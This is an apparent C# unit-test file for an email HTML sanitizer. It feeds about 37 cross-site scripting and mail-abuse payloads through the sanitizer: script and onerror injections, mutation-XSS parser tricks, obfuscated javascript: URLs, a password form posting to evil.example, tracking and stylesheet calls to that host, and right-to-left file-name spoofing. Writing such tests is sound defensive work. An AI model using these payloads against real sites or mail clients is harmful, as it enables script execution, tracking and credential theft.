using System.Text.RegularExpressions;
using Sekisho.Pages.Mails;
using Sekisho.Pages.Shell;

namespace Sekisho.Pages.Tests.Mail;

/// <summary>Whatever a mail's HTML is, nothing comes out but words and a few plain elements.</summary>
public sealed partial class SafeHtmlTests
{
    private static readonly Tongue s_english = new(Japanese: false);

    private static readonly HashSet<string> s_plain = ["p", "div", "span", "b", "strong", "i", "em", "u", "s", "strike", "del", "ins", "small", "big", "sub", "sup", "blockquote", "pre", "code", "tt", "ul", "ol", "li", "dl", "dt", "dd",
        "table", "thead", "tbody", "tfoot", "tr", "td", "th", "caption", "h1", "h2", "h3", "h4", "h5", "h6", "center", "q", "cite", "address", "section", "article", "header", "footer", "figure", "figcaption", "br", "hr"];

    public static TheoryData<string> Tricks { get; } =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/p.gif\" srcset=\"https://evil.example/2x 2x\">",
        "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><style>&lt;/style&gt;<img src=x onerror=alert(1)></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<base href=\"https://evil.example/\"><a href=x>y</a>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'; p{background:url(https://evil.example/)}</style>",
        "<p style=\"background:url(https://evil.example/)\" class=x id=y dir=rtl onclick=alert(1)>t</p>",
        "<iframe src=https://evil.example/></iframe><object data=x></object><embed src=x>",
        "<form action=https://evil.example/><input name=password><button>go</button></form>",
        "<video poster=https://evil.example/x><source src=https://evil.example/y></video><audio src=x>",
        "<table background=https://evil.example/><td background=x>c",
        "<template><script>alert(1)</script></template>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title></title><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<p/onclick=alert(1)><p\u0000onclick=alert(1)>",
        "<<script>alert(1)//<</script>",
        "<plaintext><script>alert(1)</script>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<td colspan=\"2 onclick=alert(1)\" rowspan=99999999>x",
        "</p></div></body></html><script>alert(1)</script>",
        "<custom-element onconnected=alert(1)>x</custom-element>",
        "<image src=x onerror=alert(1)><portal src=x><marquee onstart=alert(1)>",
        "<script>alert(1)",
        "<style>",
        "<a href=\"https://evil.example/\u202Egpj.exe\">x</a>",
    ];

    [Theory]
    [MemberData(nameof(Tricks))]
    public void Nothing_comes_out_but_words_and_plain_elements(string html)
    {
        var safe = SafeHtml.Make($"<p>before</p>{html}", 10_000, s_english, out _);
        Assert.StartsWith("<p>before</p>", safe, StringComparison.Ordinal);
        foreach (Match tag in Tag().Matches(safe))
        {
            Assert.Contains(tag.Groups[1].Value, s_plain);
            Assert.Matches("^( (colspan|rowspan)=\"[0-9]{1,2}\")*$", tag.Groups[2].Value);
        }

        // What is left is text: no tag could begin in it.
        Assert.DoesNotContain("<", Tag().Replace(safe, ""), StringComparison.Ordinal);
    }

    [Fact]
    public void Words_and_shape_stay()
        => Assert.Equal("<h1>御案内</h1><p>Dear <b>A</b>,</p><ul><li>one</li><li>two</li></ul><table><tr><td colspan=\"2\">x &amp; y</td></tr></table>",
            SafeHtml.Make("<html><head><title>t</title><style>x</style></head><body bgcolor=red><h1>御案内</h1><p>Dear <b>A</b>,<ul><li>one<li>two</ul><table><tr><td colspan=2>x &amp; y</table>", 1000, s_english, out var cut));

    [Fact]
    public void A_link_says_where_it_leads_and_cannot_be_clicked()
    {
        var safe = SafeHtml.Make("<a href=\"https://evil.example/login\">https://bank.example/</a>", 1000, s_english, out _);
        Assert.Equal("https://bank.example/<code>‹https://evil.example/login›</code>", safe);
    }

    [Fact]
    public void A_picture_is_what_it_is_said_to_show()
        => Assert.Equal("<code>[picture: Our &lt;logo&gt;]</code>", SafeHtml.Make("<img src=cid:x alt='Our <logo>'>", 1000, s_english, out _));

    [Fact]
    public void Direction_tricks_are_seen_and_a_newsletters_invisible_blanks_are_not()
        => Assert.Equal("invoice‹U+202E›fdp.exe hi", SafeHtml.Make("invoice\u202Efdp.exe \u200C\u200C\u00ADhi", 1000, s_english, out _).Replace("&#x2B;", "+", StringComparison.Ordinal));

    [Fact]
    public void Ten_thousand_levels_and_unclosed_elements_end_closed()
    {
        var safe = SafeHtml.Make(string.Concat(Enumerable.Repeat("<div><b>", 10_000)) + "deep", 1000, s_english, out _);
        Assert.Contains("deep", safe, StringComparison.Ordinal);
        Assert.Equal(Regex.Count(safe, "<(div|b)>"), Regex.Count(safe, "</(div|b)>"));
        Assert.True(safe.Length < 2000);
    }

    [Fact]
    public void Long_text_is_cut_and_said_so()
    {
        var safe = SafeHtml.Make("<p>" + new string('x', 5000), 1000, s_english, out var cut);
        Assert.True(cut);
        Assert.InRange(safe.Length, 1000, 1100);
    }

    [GeneratedRegex("</?([a-z0-9]+)((?: [^<>]*)?)>")]
    private static partial Regex Tag();
}
